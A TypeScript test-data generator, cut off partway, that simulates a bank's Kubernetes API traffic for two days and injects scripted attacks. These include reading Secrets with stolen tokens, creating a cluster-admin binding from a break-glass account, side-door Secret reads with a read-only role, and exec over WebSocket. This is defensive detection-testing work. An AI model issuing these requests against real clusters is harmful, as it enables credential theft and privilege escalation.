import { attackKit, type AttackRequest, type DayEvent, lastScoredOf, type Login, prng, withAttacks, WS_UPGRADE } from './workday.js';

/**
 * A fifteenth replayed day, written as an outside red team and an outside observer would after
 * reading docs/risk.md, from situations days 1–14 do not have: a regulated bank's platform and
 * payments teams (25 people) on `kubernetes.pay.northbank.example`. Warm-up Monday 8 March 2027,
 * scored Tuesday 9 March (London is on UTC in March before the clocks change: hours are UTC).
 *
 * How the bank works, as the tools send it:
 * - nobody reaches the cluster from a laptop: the platform team from privileged-access workstations
 *   (PAWs: one Windows 11 machine each, its own address in 10.50.0.0/16, Edge and kubectl from the
 *   PAW image); everyone else from a Citrix VDI farm whose sessions all leave through one NAT pool
 *   (four addresses, one picked per connection) and run one identical image (the same Chrome
 *   build, the same kubectl build): network and device evidence is the farm's, shared by everyone;
 * - a change freeze: production writes only in a change ticket's approved window (Monday
 *   18:00–19:00, Tuesday 12:00–13:00), `kubectl set image` and `rollout status` by the two
 *   engineers the ticket names;
 * - overnight settlement: CronJobs in `settlement-prod` run inside the cluster; batch operations
 *   check the night's run at the start of the day and rerun a failed one (`kubectl create job
 *   --from=cronjob/…`);
 * - a SOC of three read-only analysts who look at everything (pods, events, network policies,
 *   bindings, across every namespace, in kubectl and k9s);
 * - an external auditor with a read-only account for the day (created that morning: no history),
 *   reviewing RBAC, production workloads' YAML and network policies;
 * - an offshore vendor team (three engineers, Bengaluru hours) on its own site-to-site VPN (one
 *   egress address for all of them), in the reconciliation app's `recon-dev` and `recon-uat`;
 * - a production incident at 03:00: the payments on-call, paged at home, works it from the home
 *   laptop through the VDI (so from the farm), with a sign-in of their own, and starts their day
 *   at 10:00; the platform on-call joins at 03:15 from their PAW (kept at home for on-call).
 *
 * The attacks, from public tradecraft and incidents: a session token scraped from another user's
 * roaming VDI profile (kubelogin's cache on the profile share) used from another session on the
 * same farm; a break-glass account used outside an incident with its password and OTP seed from a
 * vault export (Microsoft's guidance long exempted emergency accounts from conditional access);
 * the auditor's read-only token reading Secrets' contents through side doors (a ConfigMap holding
 * a password, a pod's and a Deployment's inline env, old ReplicaSets' templates from before a
 * rotation, a Secret's PartialObjectMetadata whose last-applied-configuration holds its data, and
 * exec as a WebSocket GET, which a "read-only" role with `get` on `*\/*` authorised before
 * Kubernetes 1.30's AuthorizePodWebsocketUpgradeCreatePermission); the vendor's VPN token used to
 * reach payments; a change pushed by an insider outside the freeze's approved window; Falco's
 * DaemonSet "paused" with an impossible nodeSelector before a Secret is read (impair defenses,
 * MITRE T1562.001); the settlement CronJob's payout destination changed the evening before the run.
 */

export const D15_MON = Date.UTC(2027, 2, 8, 0, 0, 0); // warm-up
export const D15_TUE = Date.UTC(2027, 2, 9, 0, 0, 0); // the scored day
const H = 3_600_000;
const M = 60_000;
const S = 1000;

export const BANK = 'kubernetes.pay.northbank.example';
/** The VDI farm's NAT pool: every Citrix session leaves through one of these. */
export const VDI_NAT = ['10.44.0.10', '10.44.0.11', '10.44.0.12', '10.44.0.13'];
/** The vendor's site-to-site VPN: one egress address for the whole vendor team. */
export const VENDOR_VPN = '172.22.8.5';
/** The farm image's kubectl and Chrome: one build for every session. */
export const KUBECTL_VDI = 'kubectl/v1.30.4 (windows/amd64) kubernetes/a51b3b7';
export const CHROME_VDI = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36';
/** The PAW image's kubectl. */
export const KUBECTL_PAW = 'kubectl/v1.31.1 (windows/amd64) kubernetes/948afe5';
const KUBECTL_VENDOR = 'kubectl/v1.29.7 (windows/amd64) kubernetes/4e4a18e';
const K9S = 'k9s/v0.32.5 (windows/amd64) kubernetes/$Format';
const HELM = 'Helm/3.15.4';

const JSON_CT = { 'content-type': 'application/json' };
const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
const WS = WS_UPGRADE;
const PF = { ...WS_UPGRADE, 'sec-websocket-protocol': 'SPDY/3.1+portforward.k8s.io' };

type Where = 'vdi' | 'paw' | 'vendor';
type Kind = 'platform' | 'payments' | 'batch' | 'soc' | 'auditor' | 'vendor';
type Sitting = [number, number, Where];

interface Person {
  name: string;
  short: string;
  idx: number;
  kind: Kind;
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
}

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, warm: Sitting[], scored: Sitting[]) => {
    const j = () => (rand() - 0.5) * 0.4;
    out.push({ name: `d15-${short}@northbank.example`, short, idx: out.length, kind, warm: warm.map(([a, b, w]) => [a + j(), b + j(), w]), scored: scored.map(([a, b, w]) => [a + j(), b + j(), w]), lunch: 12 + rand() * 0.8 });
  };
  for (let i = 1; i <= 6; i++) add(`platform-${i}`, 'platform', [[8, 17, 'paw']], [[8, 17, 'paw']]);
  for (let i = 1; i <= 8; i++) add(`pay-${i}`, 'payments', [[8.5, 17.5, 'vdi']], i === 3 ? [[10, 17.5, 'vdi']] : [[8.5, 17.5, 'vdi']]);
  for (let i = 1; i <= 3; i++) add(`batch-${i}`, 'batch', [[6.5, 15, 'vdi']], [[6.5, 15, 'vdi']]);
  for (let i = 1; i <= 3; i++) add(`soc-${i}`, 'soc', [[7 + i, 16 + i, 'vdi']], [[7 + i, 16 + i, 'vdi']]);
  // The auditor's account exists for the scored day only.
  add('auditor', 'auditor', [], [[9.5, 17, 'vdi']]);
  for (let i = 1; i <= 3; i++) add(`vendor-${i}`, 'vendor', [[3.5, 12.5, 'vendor']], [[3.5, 12.5, 'vendor']]);
  // The SOC's lead, who reviews what the analysts raise: the same read-only view.
  add('soc-lead', 'soc', [[9, 17, 'vdi']], [[9, 17, 'vdi']]);
  return out;
}

/** A platform engineer's PAW: one address each. */
const pawOf = (p: Person) => `10.50.1.${20 + p.idx}`;

type Req = { method: string; path: string; headers?: Record<string, string>; body?: string; ua?: string; browser?: boolean; host?: string };

const PAY_SVCS = ['payments-api', 'payments-gateway', 'fx-quotes'];
const pod = (d: string, rand: () => number) => `${d}-7d9f8c6b5-${['x2kq9', 'm4tz7', 'c9wpl', 'r2v6d'][Math.floor(rand() * 4)]}`;

/** `kubectl set image` then `rollout status`: what a change ticket's window holds. */
export function setImage(ns: string, d: string, tag: string): Req[] {
  return [
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${d}` },
    { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${d}?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'app', image: `registry.northbank.example/payments/${d}:${tag}` }] } } } }) },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?fieldSelector=metadata.name%3D${d}&limit=500` },
    { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?fieldSelector=metadata.name%3D${d}&resourceVersion=0&watch=true` },
  ];
}

function paymentsTask(rand: () => number): Req[] {
  const env = rand();
  const ns = env < 0.45 ? 'payments-dev' : env < 0.8 ? 'payments-uat' : 'payments-prod';
  const d = PAY_SVCS[Math.floor(rand() * PAY_SVCS.length)]!;
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }];
  if (k < 0.5) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod(d, rand)}/log?container=app&tailLines=200` }];
  if (k < 0.6) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod(d, rand)}` }];
  if (k < 0.67) return [{ method: 'GET', path: `/api/v1/namespaces/${ns === 'payments-prod' ? 'payments-uat' : ns}/secrets/${d}-db` }];
  if (k < 0.73) return [{ method: 'GET', path: `/api/v1/namespaces/${ns === 'payments-prod' ? 'payments-uat' : ns}/pods/${pod(d, rand)}/exec?command=sh&container=app&stdin=true&stdout=true&tty=true`, headers: WS }];
  if (k < 0.77) return [{ method: 'GET', path: `/api/v1/namespaces/payments-uat/pods/postgres-0/portforward?ports=5432`, headers: PF }];
  if (k < 0.85 && ns !== 'payments-prod')
    return [
      { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${d}?fieldManager=kubectl-set`, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'app', image: `registry.northbank.example/payments/${d}:rc-${Math.floor(rand() * 900 + 100)}` }] } } } }) },
      { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?fieldSelector=metadata.name%3D${d}&resourceVersion=0&watch=true` },
    ];
  if (k < 0.92) return [{ method: 'GET', host: 'grafana.localhost', path: `/api/dashboards/uid/payments-${ns}`, browser: true }, { method: 'POST', host: 'grafana.localhost', path: '/api/ds/query?ds_type=prometheus', headers: JSON_CT, body: JSON.stringify({ queries: [{ refId: 'A', expr: `sum(rate(http_requests_total{namespace="${ns}"}[5m]))` }], from: 'now-1h', to: 'now' }), browser: true }];
  return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: '/apis?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500` }];
}

function platformTask(rand: () => number): Req[] {
  const k = rand();
  if (k < 0.25) return [{ method: 'GET', path: '/api/v1/nodes?limit=500' }, { method: 'GET', path: '/apis/metrics.k8s.io/v1beta1/nodes' }];
  if (k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/kube-system/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/ingress-nginx/pods?limit=500' }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/monitoring/pods?limit=500' }, { method: 'GET', path: '/apis/monitoring.coreos.com/v1/namespaces/monitoring/prometheusrules?limit=500' }];
  if (k < 0.6) return [{ method: 'GET', path: '/api/v1/namespaces/logging/pods?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/logging/pods/fluent-bit-${['9xk2p', 'q7v4m'][Math.floor(rand() * 2)]}/log?container=fluent-bit&tailLines=100` }];
  if (k < 0.67) return [{ method: 'GET', path: '/api/v1/namespaces/falco/pods?limit=500' }, { method: 'GET', path: '/apis/apps/v1/namespaces/falco/daemonsets/falco' }];
  if (k < 0.74) return [{ method: 'GET', path: '/api/v1/namespaces/monitoring/secrets/alertmanager-main' }];
  if (k < 0.8) return [{ method: 'GET', path: '/apis/cert-manager.io/v1/certificates?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/ingress-nginx/secrets/default-tls' }];
  if (k < 0.86)
    return [
      { method: 'GET', path: '/api/v1/namespaces/monitoring/secrets?labelSelector=owner%3Dhelm%2Cname%3Dkube-prometheus-stack', ua: HELM },
      { method: 'PATCH', path: '/apis/apps/v1/namespaces/monitoring/deployments/kube-prometheus-stack-operator', headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-03-09T10:00:00Z' } } } } }), ua: HELM },
    ];
  if (k < 0.93) return [{ method: 'GET', path: '/api/v1/namespaces?limit=500' }, { method: 'GET', path: '/apis/networking.k8s.io/v1/networkpolicies?limit=500' }];
  return [{ method: 'GET', path: '/api/v1/namespaces/payments-prod/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/settlement-prod/pods?limit=500' }];
}

function batchTask(rand: () => number, h: number): Req[] {
  const k = rand();
  const job = `settlement-eod-2903${Math.floor(rand() * 90 + 10)}`;
  if (h < 8 && k < 0.5) return [{ method: 'GET', path: '/apis/batch/v1/namespaces/settlement-prod/jobs?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/settlement-prod/pods?labelSelector=job-name%3D${job}&limit=500` }, { method: 'GET', path: `/api/v1/namespaces/settlement-prod/pods/${job}-x2kq9/log?container=settle&tailLines=500` }];
  if (k < 0.3) return [{ method: 'GET', path: '/apis/batch/v1/namespaces/settlement-prod/cronjobs?limit=500' }, { method: 'GET', path: '/apis/batch/v1/namespaces/settlement-prod/jobs?limit=500' }];
  if (k < 0.5) return [{ method: 'GET', path: '/api/v1/namespaces/settlement-prod/events?limit=500' }];
  if (k < 0.6) return [{ method: 'GET', path: '/api/v1/namespaces/settlement-uat/secrets/sftp-bacs' }];
  if (k < 0.75) return [{ method: 'GET', path: '/api/v1/namespaces/ledger-prod/pods?limit=500' }, { method: 'GET', path: '/api/v1/namespaces/ledger-prod/pods/ledger-recon-0/log?container=recon&tailLines=200' }];
  if (k < 0.85) return [{ method: 'GET', host: 'grafana.localhost', path: '/api/dashboards/uid/settlement-batch', browser: true }];
  return [{ method: 'GET', path: '/apis/batch/v1/namespaces/settlement-uat/jobs?limit=500' }, { method: 'GET', path: '/apis/batch/v1/namespaces/settlement-uat/cronjobs/settlement-eod' }];
}

/** A batch operator reruns the night's failed settlement (`kubectl create job --from=cronjob/settlement-eod`). */
function rerunSettlement(): Req[] {
  const job = 'settlement-eod-manual-8k2x';
  return [
    { method: 'GET', path: '/apis/batch/v1/namespaces/settlement-prod/cronjobs/settlement-eod' },
    {
      method: 'POST',
      path: '/apis/batch/v1/namespaces/settlement-prod/jobs?fieldManager=kubectl-create',
      headers: JSON_CT,
      body: JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: job, namespace: 'settlement-prod', annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' } }, spec: { backoffLimit: 0, template: { spec: { restartPolicy: 'Never', serviceAccountName: 'settlement', containers: [{ name: 'settle', image: 'registry.northbank.example/settlement/eod:4.12.1', args: ['--date', 'T-1', '--scheme', 'bacs'] }] } } } }),
    },
    { method: 'GET', path: `/api/v1/namespaces/settlement-prod/pods?labelSelector=job-name%3D${job}&limit=500` },
    { method: 'GET', path: `/api/v1/namespaces/settlement-prod/pods/${job}-c9wpl/log?container=settle&follow=true` },
  ];
}

const ALL_NS = ['payments-prod', 'settlement-prod', 'ledger-prod', 'recon-uat', 'ingress-nginx', 'kube-system'];

function socTask(rand: () => number): Req[] {
  const k = rand();
  const ns = ALL_NS[Math.floor(rand() * ALL_NS.length)]!;
  if (k < 0.25) return [{ method: 'GET', path: '/api/v1/pods?limit=500', ua: K9S }, { method: 'GET', path: '/api/v1/pods?resourceVersion=0&watch=true', ua: K9S }];
  if (k < 0.45) return [{ method: 'GET', path: '/api/v1/events?limit=500' }];
  if (k < 0.6) return [{ method: 'GET', path: '/apis/networking.k8s.io/v1/networkpolicies?limit=500' }, { method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500' }];
  if (k < 0.75) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?limit=500` }];
  if (k < 0.85) return [{ method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/rolebindings?limit=500' }, { method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', headers: JSON_CT, body: JSON.stringify({ kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', spec: { namespace: ns } }) }];
  return [{ method: 'GET', host: 'grafana.localhost', path: '/api/search?query=falco&type=dash-db', browser: true }, { method: 'GET', host: 'grafana.localhost', path: '/api/dashboards/uid/falco-events', browser: true }];
}

/** The auditor's review: RBAC, production workloads' YAML, network policies, who can do what. */
function auditorTask(rand: () => number): Req[] {
  const ns = ['payments-prod', 'settlement-prod', 'ledger-prod'][Math.floor(rand() * 3)]!;
  const k = rand();
  if (k < 0.25) return [{ method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500' }, { method: 'GET', path: '/apis/rbac.authorization.k8s.io/v1/clusterroles?limit=500' }];
  if (k < 0.45) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: `/apis/rbac.authorization.k8s.io/v1/namespaces/${ns}/rolebindings?limit=500` }];
  if (k < 0.75) return [{ method: 'GET', path: `/apis/networking.k8s.io/v1/namespaces/${ns}/networkpolicies?limit=500` }];
  if (k < 0.85) return [{ method: 'POST', path: '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', headers: JSON_CT, body: JSON.stringify({ kind: 'SelfSubjectRulesReview', apiVersion: 'authorization.k8s.io/v1', spec: { namespace: ns } }) }];
  return [{ method: 'GET', path: '/api/v1/namespaces?limit=500' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/serviceaccounts?limit=500` }];
}

function vendorTask(rand: () => number): Req[] {
  const ns = rand() < 0.6 ? 'recon-dev' : 'recon-uat';
  const k = rand();
  const po = `recon-worker-6c8d9f-${['x2kq9', 'm4tz7'][Math.floor(rand() * 2)]}`;
  if (k < 0.35) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?limit=500` }, { method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${po}/log?container=worker&tailLines=200` }];
  if (k < 0.5) return [{ method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments?limit=500` }];
  if (k < 0.6) return [{ method: 'GET', path: '/api/v1/namespaces/recon-uat/secrets/recon-db' }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/v1/namespaces/recon-dev/pods/${po}/exec?command=sh&container=worker&stdin=true&stdout=true&tty=true`, headers: WS }];
  if (k < 0.82)
    return [{ method: 'PATCH', path: '/apis/apps/v1/namespaces/recon-dev/deployments/recon-worker?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', headers: SMP, body: JSON.stringify({ metadata: { annotations: { 'kubectl.kubernetes.io/last-applied-configuration': '{}' } }, spec: { template: { spec: { containers: [{ name: 'worker', image: `registry.northbank.example/vendor/recon-worker:2.8.${Math.floor(rand() * 40)}` }] } } } }) }];
  return [{ method: 'GET', path: '/api?timeout=32s' }, { method: 'GET', path: `/api/v1/namespaces/${ns}/configmaps?limit=500` }];
}

/** The 03:00 incident: payments-api crash-looping after a certificate rotation. */
function incident(): Req[] {
  const po = 'payments-api-7d9f8c6b5-x2kq9';
  return [
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/pods?limit=500' },
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/events?limit=500' },
    { method: 'GET', path: `/api/v1/namespaces/payments-prod/pods/${po}/log?container=app&previous=true&tailLines=500` },
    { method: 'GET', path: `/api/v1/namespaces/payments-prod/pods/${po}` },
    { method: 'GET', path: '/api/v1/namespaces/payments-prod/secrets/payments-api-tls' },
    { method: 'GET', path: `/api/v1/namespaces/payments-prod/pods/payments-api-7d9f8c6b5-m4tz7/exec?command=sh&container=app&stdin=true&stdout=true&tty=true`, headers: WS },
    { method: 'PATCH', path: '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api?fieldManager=kubectl-rollout', headers: SMP, body: JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-03-09T03:21:40Z' } } } } }) },
    { method: 'GET', path: '/apis/apps/v1/namespaces/payments-prod/deployments?fieldSelector=metadata.name%3Dpayments-api&resourceVersion=0&watch=true' },
    { method: 'GET', path: '/api/v1/namespaces/settlement-prod/pods?limit=500' },
    { method: 'GET', path: '/apis/batch/v1/namespaces/settlement-prod/jobs?limit=500' },
  ];
}

function platformIncident(): Req[] {
  return [
    { method: 'GET', path: '/api/v1/namespaces/ingress-nginx/pods?limit=500' },
    { method: 'GET', path: '/api/v1/namespaces/ingress-nginx/pods/ingress-nginx-controller-5c8d7-q7v4m/log?container=controller&tailLines=500' },
    { method: 'GET', path: '/apis/cert-manager.io/v1/namespaces/payments-prod/certificates/payments-api' },
    { method: 'GET', path: '/api/v1/namespaces/cert-manager/pods?limit=500' },
    { method: 'PATCH', path: '/apis/cert-manager.io/v1/namespaces/payments-prod/certificates/payments-api/status', headers: { 'content-type': 'application/merge-patch+json' }, body: JSON.stringify({ status: { conditions: [{ type: 'Issuing', status: 'True', reason: 'ManuallyTriggered', message: 'Certificate re-issuance manually triggered' }] } }), ua: 'cmctl/v2.1.0 (windows/amd64) cert-manager/3a8b6c1' },
  ];
}

export function workday15(seed = 131): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 15);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D15_MON, D15_TUE]) {
    const scored = day === D15_TUE;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const sittings = scored ? p.scored : p.warm;
      if (sittings.length === 0) continue;
      const mine: DayEvent[] = [];
      // The morning sign-in (two factors): in the VDI session's browser, which kubelogin uses too.
      const login: Login = { sub: p.name, sid: `${p.name}:${day}`, authTime: Math.floor((at(sittings[0]![0]) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
      let n = 0;
      const push = (t: number, q: Req, l: Login, where: Where) => {
        n++;
        const ip = where === 'paw' ? pawOf(p) : where === 'vendor' ? VENDOR_VPN : VDI_NAT[(n + p.idx) % VDI_NAT.length]!;
        const kubectl = where === 'paw' ? KUBECTL_PAW : where === 'vendor' ? KUBECTL_VENDOR : KUBECTL_VDI;
        const ua = q.ua ?? (q.browser ? CHROME_VDI : kubectl);
        const hints = q.browser ? { 'sec-ch-ua': '"Chromium";v="128", "Not;A=Brand";v="24", "Google Chrome";v="128"', 'sec-ch-ua-mobile': '?0', 'sec-ch-ua-platform': '"Windows"' } : undefined;
        const headers = hints || q.headers ? { ...hints, ...q.headers } : undefined;
        mine.push({ at: Math.round(t), actor: p.name, scored, ip, ua, login: l, method: q.method, path: q.path, host: q.host ?? BANK, ...(headers ? { headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) });
      };
      const run = (tt: number, reqs: Req[], gapMs: number, clearMin: number, l: Login, where: Where) => {
        for (let k = mine.length - 1; k >= 0; k--) if (mine[k]!.at >= tt - 2 * M && mine[k]!.at <= tt + clearMin * M) mine.splice(k, 1);
        reqs.forEach((q, k) => push(tt + k * gapMs, q, l, where));
      };
      for (const [from, to, where] of sittings) {
        let t = at(from);
        while (t < at(to)) {
          const h = (t - day) / H;
          if (h >= p.lunch && h < p.lunch + 0.75 && p.kind !== 'vendor') {
            t = at(p.lunch + 0.75) + S;
            continue;
          }
          const reqs =
            p.kind === 'payments' ? paymentsTask(rand) : p.kind === 'platform' ? platformTask(rand) : p.kind === 'batch' ? batchTask(rand, h) : p.kind === 'soc' ? socTask(rand) : p.kind === 'auditor' ? auditorTask(rand) : vendorTask(rand);
          const gap = 500 + rand() * 1500;
          reqs.forEach((q, k) => push(t + k * gap, q, login, where));
          t += (p.kind === 'soc' ? 3 : 5) * M + rand() * 10 * M;
        }
      }
      // The change ticket's approved window: two payments engineers ship to production.
      if (p.short === 'pay-1' || p.short === 'pay-2') {
        const w = scored ? 12.1 : 18.05;
        if (!scored) run(at(w - 0.05), [{ method: 'GET', path: '/api/v1/namespaces/payments-prod/pods?limit=500' }], S, 0, login, 'vdi');
        const svc = p.short === 'pay-1' ? 'payments-api' : 'payments-gateway';
        run(at(w + (p.short === 'pay-2' ? 0.2 : 0)), setImage('payments-prod', svc, scored ? '2027.03.2' : '2027.03.1'), 3 * S, 3, login, 'vdi');
      }
      // The first batch operator reruns a failed settlement each morning.
      if (p.short === 'batch-1') run(at(scored ? 7.1 : 6.9), rerunSettlement(), 4 * S, 2, login, 'vdi');
      // 03:00 on the scored day: the payments on-call from home through the VDI, with their own sign-in; the platform on-call joins from their PAW.
      if (scored && p.short === 'pay-3') {
        const night: Login = { sub: p.name, sid: `${p.name}:night:${day}`, authTime: Math.floor((at(3) - 60 * S) / 1000), acr: 'urn:stepgate:aal2' };
        run(at(3), incident(), 45 * S, 0, night, 'vdi');
      }
      if (scored && p.short === 'platform-1') {
        const night: Login = { sub: p.name, sid: `${p.name}:night:${day}`, authTime: Math.floor((at(3.25) - 60 * S) / 1000), acr: 'urn:stepgate:aal2' };
        run(at(3.25), platformIncident(), 40 * S, 0, night, 'paw');
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks15(people, events));
}

/**
 * The ten attacks, each with the token, address and client it would really have: a scraped token
 * is the victim's login at that moment, sent from another VDI session (another address of the
 * farm's pool, the farm's one kubectl build).
 */
function attacks15(people: Person[], routine: DayEvent[]): DayEvent[] {
  const out: DayEvent[] = [];
  const { by, add, T, on } = attackKit(out, people, D15_TUE, BANK);
  const kubectl = (x: DayEvent) => x.ua.startsWith('kubectl/') && x.host === BANK;

  // 1. Another session on the VDI farm (a contractor's, or malware in it) copies a payments
  // engineer's kubelogin cache from their roaming profile on the profile share
  // (`%APPDATA%\..\.kube\cache\oidc-login`, readable through a misconfigured share ACL) and uses
  // it from its own session: the farm's NAT, the farm's kubectl build. What the engineer reads.
  const p4 = by('pay-4');
  const v4 = lastScoredOf(routine, p4.name, T(14.5), kubectl);
  add("VDI farm: a payments engineer's token scraped from the roaming profile, used from another session", T(14.55), VDI_NAT[2]!, KUBECTL_VDI, v4.login, on([
    ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/payments-uat/secrets/payments-api-db', true],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-api-db', true],
    ['GET', '/api/v1/namespaces/payments-prod/pods/payments-api-7d9f8c6b5-x2kq9/exec?command=sh&container=app&stdin=true&stdout=true&tty=true', true, WS],
  ]), 20 * S, p4);

  // 2. The same from a SOC analyst's profile: the analyst looks at every namespace all day, so
  // the attacker's reads are theirs; the first Secret is not.
  const s2 = by('soc-2');
  const vs2 = lastScoredOf(routine, s2.name, T(13.2), kubectl);
  add("VDI farm: a SOC analyst's scraped token reads settlement-prod's SFTP credentials", T(13.25), VDI_NAT[1]!, KUBECTL_VDI, vs2.login, on([
    ['GET', '/api/v1/namespaces/settlement-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/settlement-prod/secrets/sftp-bacs', true],
    ['GET', '/api/v1/namespaces/ledger-prod/secrets/ledger-db', true],
  ]), 15 * S, s2);

  // 3. The break-glass account, kept in the vault for the twice-a-year outage, used at 14:20 with
  // its password and OTP seed from a vault export, from a PAW-range address (a platform
  // engineer's PAW): two factors, signed in two minutes before, an identity with no history.
  const bg: Login = { sub: 'breakglass-01@northbank.example', sid: 'breakglass-01:export', authTime: Math.floor((T(14.33) - 2 * M) / 1000), acr: 'urn:stepgate:aal2' };
  add('break-glass account used outside an incident (password and OTP from a vault export)', T(14.33), '10.50.1.99', KUBECTL_PAW, bg, on([
    ['GET', '/api/v1/namespaces?limit=500', false],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-api-db', true],
    ['POST', '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create', true, JSON_CT, JSON.stringify({ apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'ops-temp' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'User', name: 'svc-ops-temp@northbank.example' }] })],
  ]), 30 * S);

  // 4–6. The auditor's read-only token (the day account's kubeconfig, left in the auditor's VDI
  // profile) at 17:40, after the auditor has gone: Secrets' contents through side doors.
  const au = by('auditor');
  const va = lastScoredOf(routine, au.name, T(16.9), kubectl);
  add("auditor's read-only token: a ConfigMap, a pod's and a Deployment's inline env, old ReplicaSets", T(17.65), VDI_NAT[3]!, KUBECTL_VDI, va.login, on([
    ['GET', '/api/v1/namespaces/payments-prod/configmaps?limit=500', false],
    ['GET', '/api/v1/namespaces/payments-prod/configmaps/fx-quotes-config', true],
    ['GET', '/api/v1/namespaces/payments-prod/pods/fx-quotes-7d9f8c6b5-m4tz7', true],
    ['GET', '/apis/apps/v1/namespaces/settlement-prod/deployments/settlement-api', true],
    ['GET', '/apis/apps/v1/namespaces/payments-prod/replicasets?labelSelector=app%3Dpayments-api&limit=500', true],
  ]), 12 * S, au);
  add("auditor's read-only token: a Secret's metadata (PartialObjectMetadata) carrying last-applied-configuration", T(17.75), VDI_NAT[0]!, KUBECTL_VDI, va.login, on([
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-api-db', true, { accept: 'application/json;as=PartialObjectMetadata;g=meta.k8s.io;v=v1,application/json' }],
  ]), S, au);
  add("auditor's read-only token: exec as a WebSocket GET (get on pods/exec, before 1.30)", T(17.8), VDI_NAT[1]!, KUBECTL_VDI, va.login, on([
    ['GET', '/api/v1/namespaces/ledger-prod/pods?limit=500', false],
    ['GET', '/api/v1/namespaces/ledger-prod/pods/ledger-recon-0/exec?command=env&container=recon&stdout=true&stderr=true', true, WS],
  ]), 10 * S, au);

  // 7. The vendor's VPN: malware on a vendor engineer's laptop, with their token, from the VPN's
  // egress, reaches for payments (the site-to-site tunnel routes the whole cluster, not just recon).
  const ve = by('vendor-2');
  const vv = lastScoredOf(routine, ve.name, T(9), kubectl);
  add("vendor VPN token used to reach payments", T(9.1), VENDOR_VPN, vv.ua, vv.login, on([
    ['GET', '/api/v1/namespaces?limit=500', false],
    ['GET', '/api/v1/namespaces/payments-prod/services/payments-api:8080/proxy/actuator/env', true],
    ['GET', '/api/v1/namespaces/payments-prod/secrets/payments-api-db', true],
  ]), 20 * S, ve);

  // 8. The change freeze: an engineer named on the ticket pushes their own build to production at
  // 16:40, four hours after the approved window closed. They can sign in.
  const p1 = by('pay-1');
  const vp1 = lastScoredOf(routine, p1.name, T(16.6), kubectl);
  add("insider pushes a change to production outside the freeze's approved window", T(16.67), vp1.ip, vp1.ua, vp1.login, on([
    ['GET', '/apis/apps/v1/namespaces/payments-prod/deployments/payments-api', false],
